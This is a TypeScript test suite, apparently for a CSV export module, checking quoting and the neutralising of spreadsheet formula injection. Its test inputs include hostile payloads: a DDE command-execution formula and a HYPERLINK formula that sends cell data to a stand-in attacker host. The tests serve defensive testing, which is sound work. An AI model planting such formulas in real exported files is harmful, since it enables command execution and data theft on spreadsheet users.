import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvLine, exactCsvLine } from '../../../src/platform/csv/csv-line.rules.js';
import { anyText } from '../../support/any-text.js';

/** Reads rows as spreadsheets do: a quote opens a quoted part only at the start of a cell, and text can follow its end. */
function read(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  let atStart = true;
  const end = (): void => {
    rows.at(-1)!.push(cell);
    cell = '';
    atStart = true;
  };
  for (let at = 0; at < text.length; at++) {
    const char = text[at]!;
    if (quoted && char === '"' && text[at + 1] === '"') cell += text[at++]!;
    else if (quoted && char === '"') quoted = false;
    else if (quoted) cell += char;
    else if (char === '"' && atStart) [quoted, atStart] = [true, false];
    else if (char === separator) end();
    else if (char === '\n' || char === '\r') {
      end();
      if (char === '\r' && text[at + 1] === '\n') at++;
      rows.push([]);
    } else [cell, atStart] = [cell + char, false];
  }
  if (cell !== '') end();
  return rows.filter((row) => row.length > 0);
}

const BEGINS_FORMULA = /^[\s"\p{Cc}]*[=+\-@＝＋－＠]/u;
const NUMBER = /^-?\d+(\.\d+)?$/;
const withoutApostrophes = (texts: readonly string[]) => texts.map((text) => text.replaceAll("'", ''));

const attack = fc.string({
  unit: fc.constantFrom(...'=+-@＝1a\'", ', '|', ';', '\t', '\r', '\n', '\v', '\u2028', '\u0001'),
  maxLength: 12,
});

describe('a CSV line', () => {
  test('quotes cells with separators, quotes and line breaks, and leaves missing values empty', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\r\nlines', 'x;y', null, undefined, 0, true, '0.0375'])).toBe(
      'a,"b,c","say ""hi""","two\r\nlines","x;y",,,0,true,0.0375\r\n',
    );
  });

  test.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '\tx',
    '\rx',
    '\n=1',
    ' =1',
    '"=1',
    '\u00a0=1',
    '\u0001=1',
    '＝1',
    '＋1',
    '－1',
    '＠A1',
  ])('puts an apostrophe before %j, which a spreadsheet could run as a formula', (text) => {
    expect(read(csvLine([text, 'x']), ',')[0]![0]).toMatch(/^'/);
  });

  test('no cell begins a formula, with commas, semicolons, tabs or vertical bars as separators', () => {
    fc.assert(
      fc.property(fc.array(attack, { minLength: 1, maxLength: 4 }), fc.array(attack, { maxLength: 4 }), (one, two) => {
        const text = csvLine(one) + csvLine(two);
        for (const separator of [',', ';', '\t', '|']) {
          const cells = read(text, separator).flat();
          const numbers = separator === ',' ? NUMBER : /^$/;
          expect(cells.filter((cell) => BEGINS_FORMULA.test(cell) && !numbers.test(cell))).toEqual([]);
        }
      }),
      { numRuns: 2000 },
    );
  });

  test('every text stays in its column, unchanged except for apostrophes', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(anyText(), attack), { minLength: 1, maxLength: 5 }), (texts) => {
        expect(withoutApostrophes(read(`${csvLine(texts)}`, ',')[0] ?? [''])).toEqual(withoutApostrophes(texts));
      }),
    );
  });

  test('a line for programs has every text unchanged', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(anyText(), attack), { minLength: 1, maxLength: 5 }), (texts) => {
        expect(read(exactCsvLine(texts), ',')[0] ?? ['']).toEqual(texts);
      }),
    );
  });

  test('a reader with another separator that respects quotes anywhere finds neither more columns nor more rows', () => {
    const outsideQuotes = (text: string) => text.replace(/"[^"]*"/g, '');
    fc.assert(
      fc.property(fc.array(attack, { minLength: 1, maxLength: 4 }), (texts) => {
        expect(outsideQuotes(csvLine(texts)).split(/[;|\t]|\r\n|[\r\n\v\u2028]/)).toHaveLength(2);
      }),
      { numRuns: 1000 },
    );
  });

  test('text that cannot be a formula is unchanged', () => {
    for (const text of ['billing', 'a-b', 'gpt-4o', 'x=1', 'Ünïcödé', '2026-03-01', '']) {
      expect(csvLine([text])).toBe(`${text}\r\n`);
    }
  });

  test('numbers stay numbers, as numbers and as exact text', () => {
    const cells = [-1.5, 0, 5e-7, -1e21, '-1.5', '-0.000000001', '12'];
    expect(csvLine(cells)).toBe('-1.5,0,5e-7,-1e+21,-1.5,-0.000000001,12\r\n');
    expect(csvLine(['-1', '-1.5.1', '+1', '-', '-1e5'])).toBe("'-1,'-1.5.1,'+1,'-,'-1e5\r\n");
  });
});
